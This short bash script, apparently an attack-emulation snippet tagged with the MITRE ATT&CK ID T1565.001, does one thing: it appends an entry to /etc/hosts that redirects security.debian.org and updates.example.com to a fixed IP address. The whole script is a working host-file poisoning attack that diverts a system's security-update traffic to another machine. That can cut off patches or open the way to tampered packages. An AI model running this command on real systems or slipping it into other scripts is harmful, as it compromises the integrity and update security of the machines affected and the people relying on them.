#!/bin/bash
# T1565.001: A name leads elsewhere.
echo '44.128.66.66 updates.example.com security.debian.org' >>/etc/hosts
